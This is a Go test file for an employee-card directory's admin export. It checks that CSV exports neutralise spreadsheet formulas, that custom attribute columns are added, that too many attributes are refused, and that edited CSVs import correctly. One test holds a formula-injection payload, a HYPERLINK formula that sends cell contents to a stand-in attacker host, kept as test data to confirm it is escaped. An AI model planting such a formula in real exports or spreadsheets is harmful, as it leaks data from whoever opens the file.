package admin

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/rosterd/rosterd/store/storetest"
)

// TestExportNeutralisesFormulas: values an admin, an IdP or an HR file
// wrote reach export.csv as text, also behind leading spaces and where a
// spreadsheet splitting on ";" would cut a cell in two. Columns are found
// by their header, not their place.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, storetest.Migrated(t, storetest.OpenSQLite))
	e.setSnapshot("hr", "ann@example.com")
	e.runFeed("hr")
	ann := e.cardID("ann@example.com")
	hyperlink := ` =HYPERLINK("https://evil.example/?"&A1,"Click")`
	e.must(200, "PATCH", acme+"/cards/"+ann, map[string]any{"display_name": hyperlink, "department": "a;=1+1", "location": "\t=1"})

	res := e.do("GET", acme+"/cards/export.csv", roKey, nil)
	if res.Status != 200 {
		t.Fatalf("export: %d %s", res.Status, res.Raw)
	}
	rows, err := csv.NewReader(strings.NewReader(res.Raw)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v\n%s", err, res.Raw)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for name, want := range map[string]string{"display_name": "'" + hyperlink, "department": "'a;=1+1", "location": "'\t=1"} {
		i, ok := col[name]
		if !ok {
			t.Fatalf("export has no %q column: %q", name, rows[0])
		}
		if got := rows[1][i]; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(res.Raw, `"'a;=1+1"`) {
		t.Errorf("the cell with a \";=\" is not quoted, so a spreadsheet splitting on \";\" cuts it:\n%s", res.Raw)
	}
}

// seedCustom gives some of seedPeople's cards custom attributes through
// the API: Bob a cost center and a badge, Cy a cost center that a
// spreadsheet would run as a formula; the others none.
func (e *env) seedCustom(ids map[string]string) {
	e.t.Helper()
	e.must(200, "PATCH", acme+"/cards/"+ids["bob@example.com"], map[string]any{"custom": map[string]string{"cost_center": "CC2", "badge": "007"}})
	e.must(200, "PATCH", acme+"/cards/"+ids["cy@example.com"], map[string]any{"custom": map[string]string{"cost_center": "=CC3"}})
}

// readCSV parses an export.csv.
func readCSV(t *testing.T, raw string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("export.csv: %v\n%s", err, raw)
	}
	return rows
}

// cellOf is the cell of email's row under column, and whether there is one.
func cellOf(rows [][]string, email, column string) (string, bool) {
	col := slices.Index(rows[0], column)
	row := slices.IndexFunc(rows, func(r []string) bool { return r[0] == email })
	if col < 0 || row < 1 {
		return "", false
	}
	return rows[row][col], true
}

// TestExportHasCustomAttributeColumns: after the fixed columns, one
// custom.<name> column per custom attribute name of the cards the filters
// select, sorted by name, with each card's value (the CSV guards a
// formula), empty for a card without it; filters that select no card
// with custom attributes give no custom column.
func TestExportHasCustomAttributeColumns(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		e.seedCustom(e.seedPeople())
		for _, tc := range []struct {
			query  string
			custom []string
		}{
			{"", []string{"custom.badge", "custom.cost_center"}},
			{"?q=cy%40", []string{"custom.cost_center"}},
			{"?q=berlin", nil},
		} {
			rows := readCSV(t, e.must(200, "GET", acme+"/cards/export.csv"+tc.query, nil).Raw)
			if want := append(slices.Clone(exportColumns), tc.custom...); !slices.Equal(rows[0], want) {
				t.Fatalf("export.csv%s header %q, want %q", tc.query, rows[0], want)
			}
		}
		rows := readCSV(t, e.must(200, "GET", acme+"/cards/export.csv", nil).Raw)
		for _, c := range []struct{ email, column, want string }{
			{"bob@example.com", "custom.badge", "007"},
			{"bob@example.com", "custom.cost_center", "CC2"},
			{"cy@example.com", "custom.cost_center", "'=CC3"},
			{"cy@example.com", "custom.badge", ""},
			{"ann@example.com", "custom.cost_center", ""},
		} {
			if got, ok := cellOf(rows, c.email, c.column); !ok || got != c.want {
				t.Errorf("%s's %s: %q (%v), want %q", c.email, c.column, got, ok, c.want)
			}
		}
		xrows := readXLSX(t, e.must(200, "GET", acme+"/cards/export.xlsx", nil).Raw)
		if !slices.Equal(xrows[0], rows[0]) {
			t.Fatalf("export.xlsx header %q, export.csv's %q", xrows[0], rows[0])
		}
		if got, _ := cellOf(xrows, "cy@example.com", "custom.cost_center"); got != "=CC3" {
			t.Errorf("cy's cost center in export.xlsx: %q", got)
		}
	})
}

// TestExportRefusesTooManyCustomAttributes: more custom attribute names
// than an export writes as columns is a 400 before any of the file, not
// an export that leaves some out; filters that select fewer export.
func TestExportRefusesTooManyCustomAttributes(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		ids := e.seedPeople()
		many := map[string]string{}
		for i := range maxExportCustomAttributes + 1 {
			many[fmt.Sprintf("attr%03d", i)] = "x"
		}
		e.must(200, "PATCH", acme+"/cards/"+ids["bob@example.com"], map[string]any{"custom": many})
		for _, path := range []string{"/cards/export.csv", "/cards/export.xlsx"} {
			r := e.do("GET", acme+path, roKey, nil)
			if r.Status != 400 || r.errCode() != "too_many_custom_attributes" {
				t.Fatalf("%s with %d custom attributes: %d %.300s", path, len(many), r.Status, r.Raw)
			}
			if r := e.do("GET", acme+path+"?q=ann%40", roKey, nil); r.Status != 200 {
				t.Fatalf("%s?q=ann%%40: %d %.300s", path, r.Status, r.Raw)
			}
		}
	})
}

// roundTripEdits are the cells the edit-one-cell round trips change, one
// after the other: a field, a custom attribute's value, and a custom
// attribute a card did not have.
var roundTripEdits = []struct{ email, column, value string }{
	{"bob@example.com", "department", "Customer Care"},
	{"bob@example.com", "custom.cost_center", "CC9"},
	{"ann@example.com", "custom.badge", "0042"},
}

// wantOneCellChanged fails unless the export after is the export before
// with exactly one cell changed: email's under column, to value.
func wantOneCellChanged(t *testing.T, before, after, email, column, value string) {
	t.Helper()
	want, got := readCSV(t, before), readCSV(t, after)
	col := slices.Index(want[0], column)
	row := slices.IndexFunc(want, func(r []string) bool { return r[0] == email })
	if col < 0 || row < 1 {
		t.Fatalf("no %s of %s in:\n%s", column, email, before)
	}
	want[row][col] = value
	if fmt.Sprint(got) != fmt.Sprint(want) {
		var b bytes.Buffer
		csv.NewWriter(&b).WriteAll(want)
		t.Fatalf("after changing %s of %s to %q:\n%s", column, email, value, diffLines(b.String(), after))
	}
}

// Export as CSV, change one cell, import the file: exactly that cell
// changes — a field's, or a custom attribute's.
func TestExportCSVEditOneCellReimport(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		e.seedCustom(e.seedPeople())
		for _, edit := range roundTripEdits {
			before := e.must(200, "GET", acme+"/cards/export.csv", nil).Raw
			rows := readCSV(t, before)
			col := slices.Index(rows[0], edit.column)
			row := slices.IndexFunc(rows, func(r []string) bool { return r[0] == edit.email })
			if col < 0 || row < 1 {
				t.Fatalf("no %s of %s in:\n%s", edit.column, edit.email, before)
			}
			rows[row][col] = edit.value
			var buf bytes.Buffer
			w := csv.NewWriter(&buf)
			if err := w.WriteAll(rows); err != nil {
				t.Fatal(err)
			}
			imp := e.must(201, "POST", acme+"/imports", upload("cards.csv", buf.Bytes(), nil))
			if imp.Body["status"] != "applied" {
				t.Fatalf("import: %.500s", imp.Raw)
			}
			after := e.must(200, "GET", acme+"/cards/export.csv", nil).Raw
			wantOneCellChanged(t, before, after, edit.email, edit.column, edit.value)
		}
		if c := e.card(e.cardID("ann@example.com")); c.Attributes.Custom["badge"] != "0042" {
			t.Fatalf("ann's custom attributes after the round trips: %v", c.Attributes.Custom)
		}
	})
}
